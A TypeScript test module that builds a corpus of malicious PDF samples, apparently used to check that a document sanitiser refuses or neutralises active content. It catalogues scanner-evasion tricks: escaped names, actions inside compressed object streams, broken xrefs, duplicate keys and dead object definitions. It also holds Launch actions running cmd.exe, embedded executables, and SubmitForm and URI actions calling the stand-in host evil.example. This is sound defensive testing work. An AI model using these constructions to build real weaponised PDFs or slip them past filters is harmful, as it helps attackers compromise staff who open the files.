import type { FilterName } from './filters.ts';
import { onePage, type PdfObject, writePdf } from './pdf-writer.ts';
import { qpdfTransform } from './qpdf-tool.ts';

/**
 * Active content in every construction we know of, each a way a PDF can act when staff open it,
 * and each written so that a scanner of bytes would miss it: the bypasses of issue 20 (a `%stream`
 * comment, actions inside compressed object streams, SubmitForm and URI open actions) and the
 * encodings around them (escaped names, every filter, broken or missing xref, incremental
 * updates, encryption, linearization); then those of issue 25, where readers disagree on what the
 * file holds (a dead second definition of an object, object streams and dictionaries that do not
 * decode cleanly, duplicate keys) and actions outside any list of names (3D, Thread, Rendition,
 * Movie, Sound, `/S` as a string). Every one must be refused, or be kept only in a rewritten form in
 * which neither qpdf nor a lenient front-to-back reader finds anything that can act.
 */
export interface CorpusFile {
  name: string;
  build: () => Buffer;
}

const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const page = (catalogExtra = '', pageExtra = '') =>
  writePdf([{ objects: onePage(catalogExtra, pageExtra), trailer: '/Root 1 0 R' }]);

/** The catalog and page tree in the file, the action object packed into an object stream. */
function packedAction(filters: FilterName[], action = js, damage?: (encoded: Buffer) => Buffer): Buffer {
  const [catalog, pages, pageObject, contents] = onePage('/OpenAction 5 0 R');
  return writePdf([
    {
      objects: [pages!, pageObject!, contents!],
      packed: { objects: [catalog!, { number: 5, body: action }], filters, damage },
      trailer: '/Root 1 0 R',
    },
  ]);
}

/** A clean one-page file, then a dead second definition of its page (and what that page refers to). */
function deadPage(pageExtra: string, more: PdfObject[] = []): Buffer {
  const [catalog, pages, pageObject, contents] = onePage();
  return writePdf([
    {
      objects: [catalog!, pages!, pageObject!, contents!],
      unreferenced: [{ number: 3, body: onePage('', pageExtra)[2]!.body }, ...more],
      trailer: '/Root 1 0 R',
    },
  ]);
}

/** Puts `text` just before the end marker (`>` or `~>`) of an encoded stream. */
const beforeEnd = (text: string, marker: string) => (encoded: Buffer) => {
  const at = encoded.lastIndexOf(marker);
  return Buffer.concat([encoded.subarray(0, at), Buffer.from(text, 'latin1'), encoded.subarray(at)]);
};

/** A clean file, then an update that replaces the catalog with one that acts. */
function updateAddingAction(action: string, packed: boolean): Buffer {
  const clean = { objects: onePage(), trailer: '/Root 1 0 R' };
  const catalog: PdfObject = { number: 1, body: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>` };
  const update = packed
    ? {
        objects: [],
        packed: { objects: [catalog], filters: ['FlateDecode' as const] },
        trailer: '/Root 1 0 R',
      }
    : { objects: [catalog], trailer: '/Root 1 0 R' };
  return writePdf([clean, update]);
}

export const MALICIOUS_PDFS: CorpusFile[] = [
  { name: 'OpenAction JavaScript', build: () => page(`/OpenAction ${js}`) },
  { name: 'hex-escaped /J#61vaScript', build: () => page('/OpenAction << /S /J#61vaScript /JS (x) >>') },
  {
    name: 'every letter hex-escaped',
    build: () => page('/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>'),
  },
  {
    name: '%stream comment before the action, %endstream after (issue 20)',
    build: () => page(`\n%stream\n/OpenAction ${js}\n%endstream\n`),
  },
  {
    name: 'the word stream inside a string before the action',
    build: () => page(`/Title (stream\n) /OpenAction ${js} /Subject (endstream)`),
  },
  {
    name: 'JavaScript in a FlateDecode object stream (issue 20)',
    build: () => packedAction(['FlateDecode']),
  },
  { name: 'JavaScript in an ASCIIHexDecode object stream', build: () => packedAction(['ASCIIHexDecode']) },
  { name: 'JavaScript in an ASCII85Decode object stream', build: () => packedAction(['ASCII85Decode']) },
  { name: 'JavaScript in an LZWDecode object stream', build: () => packedAction(['LZWDecode']) },
  { name: 'JavaScript in a RunLengthDecode object stream', build: () => packedAction(['RunLengthDecode']) },
  {
    name: 'JavaScript in an object stream of chained filters',
    build: () => packedAction(['ASCII85Decode', 'LZWDecode', 'FlateDecode']),
  },
  {
    name: 'SubmitForm open action (issue 20)',
    build: () => page('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'),
  },
  {
    name: 'URI open action (issue 20)',
    build: () => page('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
  },
  {
    name: 'URI open action in a FlateDecode object stream',
    build: () => packedAction(['FlateDecode'], '<< /S /URI /URI (https://evil.example/) >>'),
  },
  {
    name: 'URI reached through /Next of a harmless open action',
    build: () =>
      page('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >>'),
  },
  {
    name: 'URI when the page opens (/AA /O)',
    build: () => page('', '/AA << /O << /S /URI /URI (https://evil.example/) >> >>'),
  },
  { name: 'document additional action JavaScript (/AA /WC)', build: () => page(`/AA << /WC ${js} >>`) },
  { name: 'Launch action', build: () => page('/OpenAction << /S /Launch /F (cmd.exe) >>') },
  { name: 'ImportData action', build: () => page('/OpenAction << /S /ImportData /F (data.fdf) >>') },
  {
    name: 'GoToR remote file',
    build: () => page('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  },
  {
    name: 'GoToE embedded target',
    build: () => page('/OpenAction << /S /GoToE /T << /R /C /N (payload) >> /D [0 /Fit] >>'),
  },
  {
    name: 'document-level JavaScript name tree',
    build: () => page('/Names << /JavaScript << /Names [(init) 5 0 R] >> >>'),
  },
  {
    name: 'link annotation that runs JavaScript when clicked',
    build: () => page('', `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${js} >>]`),
  },
  {
    name: 'form field keystroke script (/AA /K)',
    build: () =>
      page(
        '/AcroForm << /Fields [] >>',
        `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /K ${js} >> >>]`,
      ),
  },
  {
    name: 'XFA form',
    build: () =>
      writePdf([
        {
          objects: [
            ...onePage('/AcroForm << /Fields [] /XFA 5 0 R >>'),
            {
              number: 5,
              body: '<< >>',
              stream: Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'),
            },
          ],
          trailer: '/Root 1 0 R',
        },
      ]),
  },
  {
    name: 'RichMedia annotation',
    build: () =>
      page('', '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]'),
  },
  {
    name: 'embedded file in the name tree',
    build: () =>
      writePdf([
        {
          objects: [
            ...onePage('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>'),
            { number: 5, body: '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>' },
            { number: 6, body: '<< /Type /EmbeddedFile >>', stream: Buffer.from('MZ payload') },
          ],
          trailer: '/Root 1 0 R',
        },
      ]),
  },
  {
    name: 'file attachment annotation',
    build: () =>
      page(
        '',
        '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.js) /EF << /F 5 0 R >> >> >>]',
      ),
  },
  {
    name: 'broken xref: every offset wrong',
    build: () => {
      const file = page(`/OpenAction ${js}`).toString('latin1');
      return Buffer.from(file.replace(/(\d{10}) 00000 n/g, '0000000999 00000 n'), 'latin1');
    },
  },
  {
    name: 'no xref and no trailer at all',
    build: () => {
      const file = page(`/OpenAction ${js}`).toString('latin1');
      return Buffer.from(`${file.slice(0, file.indexOf('xref\n'))}`, 'latin1');
    },
  },
  { name: 'incremental update adds an open action', build: () => updateAddingAction(js, false) },
  {
    name: 'incremental update adds a SubmitForm action inside a compressed object stream',
    build: () => updateAddingAction('<< /S /SubmitForm /F (https://evil.example/) >>', true),
  },
  {
    name: 'JavaScript in a file encrypted with an empty user password (AES-256)',
    build: () => qpdfTransform(page(`/OpenAction ${js}`), ['--encrypt', '', 'owner', '256', '--']),
  },
  {
    name: 'JavaScript in a linearized file with object streams',
    build: () => qpdfTransform(page(`/OpenAction ${js}`), ['--linearize', '--object-streams=generate']),
  },
  {
    name: 'JavaScript action as an indirect object behind a reference chain',
    build: () =>
      writePdf([
        {
          objects: [
            ...onePage('/OpenAction 5 0 R'),
            { number: 5, body: '<< /S /JavaScript /JS 6 0 R >>' },
            { number: 6, body: '<< /Filter /FlateDecode >>', stream: Buffer.from('x\u009c') },
          ],
          trailer: '/Root 1 0 R',
        },
      ]),
  },
  {
    name: 'PDF 2.0 header with JavaScript',
    build: () => writePdf([{ objects: onePage(`/OpenAction ${js}`), trailer: '/Root 1 0 R' }], '%PDF-2.0'),
  },
  {
    name: 'a dead second definition of the page, with JavaScript when it opens (issue 25)',
    build: () => deadPage(`/AA << /O ${js} >>`),
  },
  {
    name: 'a dead second definition of the page, with a Launch action when it opens',
    build: () => deadPage('/AA << /O << /S /Launch /F (cmd.exe) >> >>'),
  },
  {
    name: 'a dead second definition of the page, with an embedded executable',
    build: () =>
      deadPage('/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]', [
        { number: 5, body: '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>' },
        { number: 6, body: '<< /Type /EmbeddedFile >>', stream: Buffer.from('MZ payload') },
      ]),
  },
  {
    name: 'JavaScript in an ASCIIHexDecode object stream that ends in an invalid digit (issue 25)',
    build: () => packedAction(['ASCIIHexDecode'], js, beforeEnd('G', '>')),
  },
  {
    name: 'JavaScript in an ASCII85Decode object stream with an invalid character',
    build: () => packedAction(['ASCII85Decode'], js, beforeEnd('{', '~>')),
  },
  {
    name: 'a catalog dictionary missing its closing >>, JavaScript inside',
    build: () => {
      const [catalog, ...rest] = onePage(`/OpenAction ${js}`);
      return writePdf([
        {
          objects: [{ number: 1, body: catalog!.body.replace(/>>\s*$/, '') }, ...rest],
          trailer: '/Root 1 0 R',
        },
      ]);
    },
  },
  {
    name: "JavaScript in a 3D annotation's /OnInstantiate (issue 25)",
    build: () =>
      writePdf([
        {
          objects: [
            ...onePage('', '/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 200 200] /3DD 5 0 R >>]'),
            {
              number: 5,
              body: '<< /Type /3D /Subtype /U3D /OnInstantiate 6 0 R >>',
              stream: Buffer.from('U3D'),
            },
            { number: 6, body: '<< >>', stream: Buffer.from('app.alert(1)') },
          ],
          trailer: '/Root 1 0 R',
        },
      ]),
  },
  {
    name: 'a Thread action with a URL file on open',
    build: () => page('/OpenAction << /S /Thread /F << /FS /URL /F (https://evil.example/t.pdf) >> /D 0 >>'),
  },
  {
    name: 'a Screen annotation that plays remote media when the page opens (Rendition)',
    build: () =>
      page(
        '',
        '/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /AA << /PO << /S /Rendition /OP 0 ' +
          '/R << /S /MR /C << /S /MCD /D << /FS /URL /F (https://evil.example/m.mp4) >> >> >> >> >> >>]',
      ),
  },
  {
    name: 'a Movie annotation with a URL',
    build: () =>
      page(
        '',
        '/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 99 99] /Movie << /F << /FS /URL /F (https://evil.example/m.mov) >> >> /A true >>]',
      ),
  },
  {
    name: 'a Sound action on open',
    build: () =>
      writePdf([
        {
          objects: [
            ...onePage('/OpenAction << /S /Sound /Sound 5 0 R >>'),
            { number: 5, body: '<< /Type /Sound /R 8000 >>', stream: Buffer.alloc(64, 0x80) },
          ],
          trailer: '/Root 1 0 R',
        },
      ]),
  },
  {
    name: 'a Launch open action whose /S is a string',
    build: () => page('/OpenAction << /S (Launch) /F (cmd.exe) >>'),
  },
  {
    name: 'a URI open action whose /S is a hex string',
    build: () => page('/OpenAction << /S <555249> /URI (https://evil.example/) >>'),
  },
  {
    name: '/S given twice, URI last',
    build: () => page('/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/) >>'),
  },
  {
    name: '/S given twice, URI first',
    build: () => page('/OpenAction << /S /URI /URI (https://evil.example/) /S /GoTo /D [3 0 R /Fit] >>'),
  },
];
